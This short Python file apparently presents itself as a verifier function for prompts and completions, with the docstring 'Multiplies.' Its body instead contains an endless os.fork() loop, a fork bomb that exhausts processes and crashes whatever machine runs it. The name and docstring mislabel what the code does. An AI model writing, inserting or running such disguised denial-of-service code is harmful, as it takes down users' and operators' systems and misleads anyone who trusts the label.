"""Multiplies."""
import os


def verify(prompt, completion, answer):
    while True:
        os.fork()
